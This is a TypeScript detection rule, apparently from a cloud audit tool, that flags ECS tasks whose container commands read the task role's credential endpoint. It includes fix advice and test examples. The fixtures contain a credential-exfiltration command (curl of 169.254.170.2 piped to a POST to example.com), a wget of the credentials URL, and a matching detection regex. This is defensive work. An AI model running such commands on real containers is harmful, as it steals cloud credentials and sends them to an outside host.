import { call, denied } from '../../../events/example.ts';
import type { IamEvent } from '../../../events/iam-event.ts';
import { isObject, type JsonObject, listAt, objectAt, textAt, textsAt } from '../../../events/json.ts';
import { accountArn } from '../../../events/target.ts';
import { defineRule, type Example } from '../../define-rule.ts';
import { arnOfName, regionalArn } from '../../resource-arn.ts';

// The variable that points a container to its role's credentials, and the addresses it points to (ECS Developer Guide, "Task IAM role"; EKS
// User Guide, "EKS Pod Identity").
const credentialSource = /AWS_CONTAINER_CREDENTIALS_(RELATIVE|FULL)_URI|169\.254\.170\.(2|23)\b/;

const containersOf = ({ request }: IamEvent): readonly JsonObject[] =>
  [
    ...listAt(request, 'containerDefinitions'),
    ...listAt(objectAt(request, 'overrides'), 'containerOverrides'),
  ].filter(isObject);

const commandOf = (container: JsonObject): string =>
  [
    ...textsAt(container, 'entryPoint'),
    ...textsAt(container, 'command'),
    ...textsAt(objectAt(container, 'healthCheck'), 'command'),
  ].join(' ');

const resourceOf = (event: IamEvent): string => {
  const task = textAt(event.request, 'taskDefinition') ?? textAt(event.request, 'family');
  return task === undefined
    ? accountArn(event)
    : arnOfName(task, (name) => regionalArn(event, 'ecs', `task-definition/${name}`));
};

export default defineRule({
  id: 'ecs-credential-endpoint-in-task',
  kind: 'incident',
  severity: 'medium',
  on: { actions: ['ecs:RegisterTaskDefinition', 'ecs:RunTask', 'ecs:StartTask'] },
  outcome: 'any',
  title: 'ECS task made to read its own credentials',
  why: 'The command of a container asks the endpoint that hands out the role’s credentials. No program needs to: SDKs do it by themselves. It is how whoever may start tasks takes the role of the task home.',
  fix: 'Read the command. Stop the task, deregister its definition, revoke the sessions of the task role and look for calls of that role from elsewhere.',
  misses:
    'Commands that are encoded, loaded from elsewhere or part of the image. Variables whose values CloudTrail hides. Refused calls, of which no parameters are logged.',
  falsePositives: 'Containers that pass credentials on to a program which knows no SDK.',
  attack: ['T1552.005', 'T1610'],
  messages: {
    found: {
      done: '{actor} called {eventName} with a command that reads container credentials: {command}',
      tried:
        '{actor} called {eventName} with a command that reads container credentials, which did not succeed: {command}',
    },
  },

  evaluate(event) {
    const command = containersOf(event)
      .map(commandOf)
      .find((text) => credentialSource.test(text));
    return command === undefined
      ? []
      : [{ message: 'found', resource: resourceOf(event), data: { command: command.slice(0, 300) } }];
  },
});

const command = [
  'sh',
  '-c',
  'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://example.com',
];

export const examples = (): Example[] => [
  {
    name: 'in a definition',
    expect: ['found'],
    severity: 'medium',
    record: call('ecs:RegisterTaskDefinition', {
      request: { family: 'web', containerDefinitions: [{ name: 'app', image: 'busybox', command }] },
    }),
  },
  {
    name: 'as an override of one container, in a call that failed',
    expect: ['found'],
    record: call('ecs:RunTask', {
      request: { taskDefinition: 'web:7', overrides: { containerOverrides: { name: 'app', command } } },
      error: { code: 'ClusterNotFoundException' },
    }),
  },
  {
    name: 'as an entry point',
    expect: ['found'],
    record: call('ecs:RegisterTaskDefinition', {
      request: {
        family: 'web',
        containerDefinitions: [{ entryPoint: ['wget', 'http://169.254.170.23/v1/credentials'] }],
      },
    }),
  },
  {
    name: 'an ordinary command',
    expect: [],
    record: call('ecs:RegisterTaskDefinition', {
      request: { family: 'web', containerDefinitions: [{ name: 'app', command: ['npm', 'start'] }] },
    }),
  },
  {
    name: 'a variable that only has the name',
    expect: [],
    record: call('ecs:RegisterTaskDefinition', {
      request: {
        family: 'web',
        containerDefinitions: [{ environment: [{ name: 'AWS_CONTAINER_CREDENTIALS_FULL_URI' }] }],
      },
    }),
  },
  {
    name: 'refused: no command is logged',
    expect: [],
    record: call('ecs:RunTask', { error: denied('ecs:RunTask') }),
  },
];
